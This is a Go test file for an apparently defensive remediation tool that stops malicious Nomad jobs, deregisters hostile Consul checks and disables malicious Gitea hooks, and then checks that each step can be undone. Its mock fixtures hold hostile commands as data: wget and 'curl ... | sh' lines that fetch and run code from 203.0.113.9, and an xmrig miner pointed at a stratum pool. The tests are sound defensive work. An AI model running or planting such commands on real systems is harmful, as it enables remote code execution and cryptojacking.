package source

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/minewarden/minewarden"
)

// product is a server that keeps state and answers in the shapes of the real one. token, when set, is demanded for all.
type product struct {
	mu    sync.Mutex
	token string
	state map[string]any
	lose  string // method whose next answer is lost after it was carried out
}

func (p *product) start(t *testing.T, handle func(w http.ResponseWriter, r *http.Request, body map[string]any)) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		defer p.mu.Unlock()
		if got := r.Header.Get("X-Nomad-Token") + r.Header.Get("X-Consul-Token") + strings.TrimPrefix(r.Header.Get("Authorization"), "token "); p.token != "" && got != p.token {
			http.Error(w, "Permission denied", http.StatusForbidden)
			return
		}
		raw, err := io.ReadAll(r.Body)
		if err != nil {
			t.Error(err)
		}
		var body map[string]any
		if len(raw) > 0 {
			if err := json.Unmarshal(raw, &body); err != nil {
				http.Error(w, err.Error(), http.StatusBadRequest)
				return
			}
		}
		if p.lose == r.Method {
			p.lose = ""
			handle(httptest.NewRecorder(), r, body)
			panic(http.ErrAbortHandler)
		}
		handle(w, r, body)
	}))
	t.Cleanup(s.Close)
	return s.URL
}

func answer(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(v); err != nil {
		panic(err)
	}
}

func (p *product) copy(t *testing.T) map[string]any {
	t.Helper()
	p.mu.Lock()
	defer p.mu.Unlock()
	b, err := json.Marshal(p.state)
	if err != nil {
		t.Fatal(err)
	}
	var out map[string]any
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

func token(t *testing.T, secret string) string {
	t.Helper()
	path := t.TempDir() + "/token"
	if err := os.WriteFile(path, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

const allocID = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"

func aJob(id, parent, command string, args ...string) map[string]any {
	return map[string]any{
		"ID": id, "Name": id, "ParentID": parent, "Namespace": "default", "Region": "global", "Type": "batch", "Status": "running", "Stop": false, "Version": 0., "JobModifyIndex": 11.,
		"CreateIndex": 11., "ModifyIndex": 12., "Priority": 50., "Datacenters": []any{"*"}, "Meta": nil,
		"TaskGroups": []any{map[string]any{"Name": "g", "Count": 1., "Tasks": []any{map[string]any{
			"Name": "t", "Driver": "raw_exec", "Config": map[string]any{"command": command, "args": args}, "Env": map[string]any{"DB_URL": "hunter2"},
		}}}},
	}
}

// nomadServer keeps jobs by id, and the index that rises with each change.
func nomadServer(t *testing.T, token string, jobs ...map[string]any) (*product, string) {
	p := &product{token: token, state: map[string]any{}}
	index := 20.
	for _, j := range jobs {
		p.state[j["ID"].(string)] = j
	}
	url := p.start(t, func(w http.ResponseWriter, r *http.Request, body map[string]any) {
		id, isJob := strings.CutPrefix(r.URL.Path, "/v1/job/")
		j, _ := p.state[id].(map[string]any)
		switch {
		case r.URL.Path == "/v1/jobs" && r.Method == http.MethodGet:
			var list []any
			for _, k := range slices.Sorted(maps.Keys(p.state)) {
				list = append(list, p.state[k])
			}
			answer(w, list)
		case r.URL.Path == "/v1/jobs":
			j := body["Job"].(map[string]any)
			old, _ := p.state[j["ID"].(string)].(map[string]any)
			if body["EnforceIndex"] == true && (old == nil && body["JobModifyIndex"] != 0. || old != nil && old["JobModifyIndex"] != body["JobModifyIndex"]) {
				http.Error(w, "Enforcing job modify index: job exists with conflicting job modify index", http.StatusInternalServerError)
				return
			}
			index++
			j["JobModifyIndex"], j["ModifyIndex"], j["Version"] = index, index, old["Version"].(float64)+1
			p.state[j["ID"].(string)] = j
			answer(w, map[string]any{"EvalID": "e", "JobModifyIndex": index})
		case r.URL.Path == "/v1/allocation/"+allocID:
			answer(w, map[string]any{"ID": allocID, "JobID": "evil", "Namespace": "default"})
		case isJob && j == nil:
			http.Error(w, "job not found", http.StatusNotFound)
		case isJob && r.Method == http.MethodGet && r.URL.Query().Get("namespace") == "default":
			answer(w, j)
		case isJob && r.Method == http.MethodDelete && r.URL.Query().Get("purge") == "false":
			index++
			j["Stop"], j["Status"], j["JobModifyIndex"], j["ModifyIndex"], j["Version"] = true, "dead", index, index, j["Version"].(float64)+1
			answer(w, map[string]any{"EvalID": "e", "JobModifyIndex": index})
		default:
			http.Error(w, "no such page", http.StatusNotFound)
		}
	})
	return p, url
}

func lineage(names string, m minewarden.Member) minewarden.Incident {
	m.Key, m.Severity = minewarden.ProcessKey{Boot: "another", PID: 1 << 20, Start: 1}, minewarden.Critical
	return minewarden.Incident{ID: "i1", Members: []minewarden.Member{m}, Findings: []minewarden.IncidentFinding{{
		Rule: "lineage/miner", Severity: minewarden.Critical, Lineage: names, Subject: minewarden.Subject{Type: minewarden.SubjectProcess, ID: "x"},
	}}}
}

var fromNomad = lineage("systemd > nomad > sh > kworker", minewarden.Member{Name: "kworker", Exe: "/var/lib/nomad/alloc/" + allocID + "/t/kworker", Args: []string{"kworker"}})

func stableJob(v map[string]any) map[string]any {
	for _, j := range v {
		for _, k := range nomadMoving {
			if k != "Stop" {
				delete(j.(map[string]any), k)
			}
		}
	}
	return v
}

func TestNomad(t *testing.T) {
	p, url := nomadServer(t, "nomad-secret", aJob("evil", "", "/bin/sh", "-c", "wget http://203.0.113.9/x; ./x"), aJob("web", "", "/usr/bin/web"))
	set := func(c *Config) { c.Nomad = Service{URL: url, TokenFile: token(t, "nomad-secret")} }
	r := newSource(t, t.TempDir(), t.TempDir(), set)
	before := p.copy(t)
	todo, refused := plan(t, r, fromNomad)
	if len(todo) != 1 || len(refused) != 0 || todo[0].Op != OpStopJob || todo[0].Target.Name != "evil" {
		t.Fatalf("todo %v, refused %q", todo, refused)
	}
	if s := fmt.Sprint(todo); strings.Contains(s, "hunter2") || strings.Contains(s, "nomad-secret") || !strings.Contains(s, `+  "Stop": true`) {
		t.Errorf("plan %s", s)
	}
	receipt, err := r.Do(t.Context(), todo[0])
	if err != nil || !receipt.OK {
		t.Fatal(err, receipt)
	}
	if after := p.copy(t); after["evil"].(map[string]any)["Stop"] != true || cmp.Diff(before["web"], after["web"]) != "" {
		t.Errorf("after: %v", after)
	}
	if again, err := r.Do(t.Context(), todo[0]); err != nil || cmp.Diff(receipt, again) != "" {
		t.Errorf("Do again: %v", err)
	}
	for range 2 {
		if err := r.Undo(t.Context(), receipt); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(stableJob(p.copy(t)), stableJob(before)); diff != "" {
			t.Errorf("undone:\n%s", diff)
		}
	}
	if left, _ := plan(t, newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Nomad.URL = url }), fromNomad); len(left) != 0 {
		t.Errorf("planned without a token: %v", left)
	}
}

func TestNomadWithoutAllocation(t *testing.T) {
	_, url := nomadServer(t, "", aJob("evil", "", "/bin/sh", "-c", "wget http://203.0.113.9/x; ./x"), aJob("web", "", "/usr/bin/web"), aJob("mine", "", "./xmrig", "-o", "stratum+tcp://p.example:3333"))
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Nomad.URL = url })
	todo, _ := plan(t, r, lineage("nomad > sh", minewarden.Member{Name: "sh", Exe: "/usr/bin/dash", Args: []string{"/bin/sh", "-c", "wget http://203.0.113.9/x; ./x"}}))
	var names []string
	for _, a := range todo {
		names = append(names, a.Target.Name)
	}
	if diff := cmp.Diff([]string{"evil", "mine"}, names); diff != "" {
		t.Error(diff)
	}
	if todo, _ := plan(t, r, lineage("sshd > bash", minewarden.Member{Name: "sh", Args: []string{"/bin/sh"}})); len(todo) > 0 {
		t.Errorf("nothing leads to Nomad, but %v", todo)
	}
}

func TestNomadChildAndParent(t *testing.T) {
	p, url := nomadServer(t, "", aJob("evil", "every", "./x"), aJob("every", "", "./x"))
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Nomad.URL = url })
	todo, _ := plan(t, r, fromNomad)
	if len(todo) != 2 || todo[0].Target.Name != "every" || !todo[0].Reversible || todo[1].Target.Name != "evil" || todo[1].Reversible {
		t.Fatalf("todo %+v", todo)
	}
	receipt, err := r.Do(t.Context(), todo[1])
	if err != nil || !receipt.OK {
		t.Fatal(err, receipt)
	}
	if err := r.Undo(t.Context(), receipt); err == nil || p.copy(t)["evil"].(map[string]any)["Stop"] != true {
		t.Errorf("Undo of a child: %v", err)
	}
}

func TestNomadOthersChanges(t *testing.T) {
	p, url := nomadServer(t, "", aJob("evil", "", "./x"))
	data := t.TempDir()
	set := func(c *Config) { c.Nomad.URL = url }
	r := newSource(t, t.TempDir(), data, set)
	todo, _ := plan(t, r, fromNomad)
	p.mu.Lock()
	p.state["evil"].(map[string]any)["JobModifyIndex"] = 15.
	p.mu.Unlock()
	if receipt, err := r.Do(t.Context(), todo[0]); err != nil || receipt.OK || !strings.Contains(receipt.Result, "plan again") {
		t.Errorf("Do of what changed: %+v, %v", receipt, err)
	}
	todo, _ = plan(t, r, fromNomad)
	p.lose = http.MethodDelete // it is carried out, but nobody hears of it
	receipt, err := r.Do(t.Context(), todo[0])
	if err != nil || !receipt.OK {
		t.Fatalf("the answer was lost: %+v, %v", receipt, err)
	}
	p.mu.Lock()
	p.state["evil"].(map[string]any)["JobModifyIndex"] = 99.
	p.mu.Unlock()
	if err := r.Undo(t.Context(), receipt); err == nil {
		t.Error("a job that somebody changed was registered over")
	}
	cutJournal(t, filepath.Join(data, "journal", receipt.Action.ID+".jsonl"), 2)
	receipts, err := newSource(t, t.TempDir(), data, set).Recover(t.Context())
	i := slices.IndexFunc(receipts, func(x minewarden.Receipt) bool { return x.Action.ID == receipt.Action.ID })
	if err != nil || i < 0 || !receipts[i].OK {
		t.Errorf("Recover = %v, %v", receipts, err)
	}
}

// consulServer keeps checks and services as the agent does, and their definitions in its data directory.
func consulServer(t *testing.T, root string, persist bool) (*product, string) {
	p := &product{state: map[string]any{"checks": map[string]any{}, "services": map[string]any{}}}
	const dir = "/opt/consul/data"
	if err := os.MkdirAll(root+dir+"/checks", 0o755); err != nil {
		t.Fatal(err)
	}
	file := func(id string) string { return fmt.Sprintf("%s%s/checks/%x", root, dir, sha256.Sum256([]byte(id))) }
	checks, services := p.state["checks"].(map[string]any), p.state["services"].(map[string]any)
	text := func(v any) string { s, _ := v.(string); return s }
	register := func(id, service string, def map[string]any) {
		kind := "http"
		if def["ScriptArgs"] != nil || def["Args"] != nil {
			kind = "script"
		}
		name := text(def["Name"])
		if name == "" {
			name = "Service '" + service + "' check"
		}
		checks[id] = map[string]any{"Node": "host1", "CheckID": id, "Name": name, "Status": "passing", "Notes": text(def["Notes"]), "Output": "", "ServiceID": service, "Type": kind, "Definition": map[string]any{}}
		if !persist {
			return
		}
		args := def["ScriptArgs"]
		if args == nil {
			args = def["Args"]
		}
		b, err := json.Marshal(map[string]any{
			"Check":   checks[id],
			"ChkType": map[string]any{"CheckID": "", "Name": "", "ScriptArgs": args, "HTTP": text(def["HTTP"]), "Interval": 10000000000., "Timeout": 0., "Shell": "", "TTL": 0., "Header": def["Header"]},
			"Token":   "persisted-token", "Source": "remote",
		})
		if err != nil {
			t.Error(err)
		}
		if err := os.WriteFile(file(id), b, 0o600); err != nil {
			t.Error(err)
		}
	}
	url := p.start(t, func(w http.ResponseWriter, r *http.Request, body map[string]any) {
		path := strings.TrimPrefix(r.URL.Path, "/v1/agent/")
		switch {
		case path == "self":
			answer(w, map[string]any{"DebugConfig": map[string]any{"DataDir": dir}})
		case path == "checks":
			answer(w, checks)
		case path == "check/register" && r.Method == http.MethodPut:
			id := text(body["ID"])
			if id == "" {
				id = text(body["Name"])
			}
			register(id, text(body["ServiceID"]), body)
		case path == "service/register" && r.Method == http.MethodPut:
			id := text(body["ID"])
			list, _ := body["Checks"].([]any)
			if c, ok := body["Check"].(map[string]any); ok {
				list = append(list, c)
			}
			for _, c := range list {
				c := c.(map[string]any)
				cid := text(c["CheckID"])
				if cid == "" {
					cid = "service:" + id
				}
				register(cid, id, c)
			}
			tags := body["Tags"]
			if tags == nil {
				tags = []any{}
			}
			services[id] = map[string]any{"ID": id, "Service": body["Name"], "Tags": tags, "Meta": map[string]any{}, "Port": body["Port"], "Address": body["Address"], "Weights": map[string]any{"Passing": 1., "Warning": 1.}, "EnableTagOverride": false, "ContentHash": "1edd", "Datacenter": "dc1"}
		case strings.HasPrefix(path, "service/deregister/") && r.Method == http.MethodPut:
			id := strings.TrimPrefix(path, "service/deregister/")
			if services[id] == nil {
				http.Error(w, "Unknown service ID", http.StatusNotFound)
				return
			}
			delete(services, id)
			for cid, c := range checks {
				if c.(map[string]any)["ServiceID"] == id {
					delete(checks, cid)
					os.Remove(file(cid))
				}
			}
		case strings.HasPrefix(path, "check/deregister/") && r.Method == http.MethodPut:
			id := strings.TrimPrefix(path, "check/deregister/")
			if checks[id] == nil {
				http.Error(w, "Unknown check ID", http.StatusNotFound)
				return
			}
			delete(checks, id)
			os.Remove(file(id))
		case strings.HasPrefix(path, "service/") && services[strings.TrimPrefix(path, "service/")] != nil:
			answer(w, services[strings.TrimPrefix(path, "service/")])
		default:
			http.Error(w, "unknown", http.StatusNotFound)
		}
	})
	put := func(path, body string) {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPut, url+"/v1/agent/"+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatal(err, resp)
		}
		resp.Body.Close()
	}
	put("check/register", `{"ID":"evil","Name":"evil","ScriptArgs":["/bin/sh","-c","curl http://203.0.113.9/x|sh"],"Interval":"10s"}`)
	put("check/register", `{"ID":"disk","Name":"disk","ScriptArgs":["/usr/lib/nagios/check_disk","-w","10%"],"Interval":"10s"}`)
	put("service/register", `{"ID":"svc","Name":"svc","Address":"127.0.0.1","Port":80,"Tags":["a"],"Check":{"Args":["/var/tmp/.sys/run"],"Interval":"10s","Header":{"Authorization":["hunter2"]}}}`)
	put("service/register", `{"ID":"web","Name":"web","Port":8080,"Check":{"HTTP":"http://127.0.0.1/","Interval":"10s"}}`)
	return p, url
}

func fromConsul() minewarden.Incident {
	return lineage("systemd > consul > sh > run", minewarden.Member{Name: "run", Exe: "/var/tmp/.sys/run", Args: []string{"/var/tmp/.sys/run"}})
}

func TestConsul(t *testing.T) {
	root := t.TempDir()
	p, url := consulServer(t, root, true)
	r := newSource(t, root, t.TempDir(), func(c *Config) { c.Consul.URL = url })
	before := p.copy(t)
	files := func() map[string]string {
		out := map[string]string{}
		for k, v := range snapshot(t, root) {
			if strings.Contains(k, "/checks/") {
				_, out[k], _ = strings.Cut(v, "\n")
			}
		}
		return out
	}
	disk := files()
	todo, refused := plan(t, r, fromConsul())
	var names []string
	for _, a := range todo {
		names = append(names, a.Op+" "+a.Target.ID)
	}
	want := []string{"deregister-service consul check evil", "deregister-service consul check service:svc", "deregister-service consul service svc"}
	if diff := cmp.Diff(want, names); diff != "" || len(refused) > 0 {
		t.Fatalf("refused %q, plan:\n%s", refused, diff)
	}
	if s := fmt.Sprint(todo); strings.Contains(s, "hunter2") || strings.Contains(s, "persisted-token") {
		t.Errorf("a secret is shown: %s", s)
	}
	for _, a := range todo {
		receipt, err := r.Do(t.Context(), a)
		if err != nil || !receipt.OK {
			t.Fatal(err, receipt)
		}
		if cmp.Equal(before, p.copy(t)) {
			t.Errorf("%s did nothing", a.Target.ID)
		}
		if again, err := r.Do(t.Context(), a); err != nil || cmp.Diff(receipt, again) != "" {
			t.Errorf("Do again: %v", err)
		}
		for range 2 {
			if err := r.Undo(t.Context(), receipt); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(before, p.copy(t)) + cmp.Diff(disk, files()); diff != "" {
				t.Errorf("%s undone:\n%s", a.Target.ID, diff)
			}
		}
	}
}

// TestConsulWithoutDefinitions leaves alone what could not be put back, and says so.
func TestConsulWithoutDefinitions(t *testing.T) {
	_, url := consulServer(t, t.TempDir(), false)
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Consul.URL = url })
	todo, refused := plan(t, r, fromConsul())
	if len(todo) > 0 || !strings.Contains(strings.Join(refused, "\n"), "could not be registered again") {
		t.Errorf("todo %v, refused %q", todo, refused)
	}
}

func giteaServer(t *testing.T) (*product, string) {
	const evil = "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n"
	p := &product{token: "gitea-secret", state: map[string]any{
		"git/pre-receive": "", "git/update": "#!/bin/sh\n/usr/local/bin/check\n", "git/post-receive": evil,
		"1": map[string]any{"id": 1., "active": true, "type": "gitea", "config": map[string]any{"url": "http://203.0.113.9/hook", "content_type": "json"}, "events": []any{"push"}},
		"2": map[string]any{"id": 2., "active": true, "type": "gitea", "config": map[string]any{"url": "https://ci.example.org/hook", "content_type": "json"}, "events": []any{"push"}},
	}}
	git := func(name string) map[string]any {
		h := map[string]any{"name": name, "is_active": false}
		if text := p.state["git/"+name].(string); text != "" {
			h["is_active"], h["content"] = true, text
		}
		return h
	}
	url := p.start(t, func(w http.ResponseWriter, r *http.Request, body map[string]any) {
		path, ok := strings.CutPrefix(r.URL.Path, "/api/v1/repos/o/r/hooks")
		path = strings.TrimPrefix(path, "/")
		switch {
		case !ok:
			http.Error(w, `{"message":"not found"}`, http.StatusNotFound)
		case path == "":
			answer(w, []any{p.state["1"], p.state["2"]})
		case path == "git":
			answer(w, []any{git("pre-receive"), git("update"), git("post-receive")})
		case p.state[path] == nil:
			http.Error(w, `{"message":"not found"}`, http.StatusNotFound)
		case strings.HasPrefix(path, "git/"):
			if r.Method == http.MethodPatch {
				p.state[path] = body["content"]
			}
			answer(w, git(strings.TrimPrefix(path, "git/")))
		default:
			if r.Method == http.MethodPatch {
				maps.Copy(p.state[path].(map[string]any), body)
			}
			answer(w, p.state[path])
		}
	})
	return p, url
}

func TestGitea(t *testing.T) {
	p, url := giteaServer(t)
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Gitea = Service{URL: url, TokenFile: token(t, "gitea-secret")} })
	inc := lineage("gitea > git > sh > curl", minewarden.Member{Name: "curl"})
	inc.Findings = append(inc.Findings,
		minewarden.IncidentFinding{Rule: "persistence/code", Severity: minewarden.High, Subject: minewarden.Subject{Type: minewarden.SubjectFile, ID: "/data/git/repositories/o/r.git/hooks/post-receive.d/x"}},
		minewarden.IncidentFinding{Rule: "stratum/login", Severity: minewarden.High, Subject: minewarden.Subject{Type: minewarden.SubjectFlow, Server: "203.0.113.9:80"}})
	before := p.copy(t)
	todo, refused := plan(t, r, inc)
	var names []string
	for _, a := range todo {
		names = append(names, a.Target.ID)
	}
	if diff := cmp.Diff([]string{"gitea hook o/r post-receive", "gitea web hook o/r 1"}, names); diff != "" || len(refused) > 0 {
		t.Fatalf("refused %q, plan:\n%s", refused, diff)
	}
	for _, a := range todo {
		receipt, err := r.Do(t.Context(), a)
		if err != nil || !receipt.OK {
			t.Fatal(err, receipt)
		}
		if cmp.Equal(before, p.copy(t)) {
			t.Errorf("%s did nothing", a.Target.ID)
		}
		for range 2 {
			if err := r.Undo(t.Context(), receipt); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(before, p.copy(t)); diff != "" {
				t.Errorf("%s undone:\n%s", a.Target.ID, diff)
			}
		}
	}
	todo, _ = plan(t, r, inc)
	receipt, err := r.Do(t.Context(), todo[0])
	if err != nil || !receipt.OK {
		t.Fatal(err, receipt)
	}
	p.mu.Lock()
	p.state["git/post-receive"] = "#!/bin/sh\necho another\n"
	p.mu.Unlock()
	if err := r.Undo(t.Context(), receipt); err == nil {
		t.Error("a hook that somebody wrote meanwhile was written over")
	}
}

func TestConfig(t *testing.T) {
	for name, set := range map[string]func(*Config){
		"relative root": func(c *Config) { c.Root = "x" }, "no systemctl": func(c *Config) { c.Systemctl = "" },
		"password in a url": func(c *Config) { c.Nomad.URL = "http://u:p@h" }, "scheme": func(c *Config) { c.Docker.URL = "ftp://h" },
		"relative token": func(c *Config) { c.Gitea.TokenFile = "token" }, "certificate without key": func(c *Config) { c.Consul.CertFile = "/x" },
	} {
		_, err := New(minewarden.Env{Decode: func(v any) error { set(v.(*Config)); return nil }})
		if err == nil {
			t.Errorf("%s is accepted", name)
		} else if strings.Contains(err.Error(), "u:p") {
			t.Errorf("%s: the password is shown: %v", name, err)
		}
	}
	if _, err := New(minewarden.Env{}); err != nil {
		t.Error(err)
	}
}
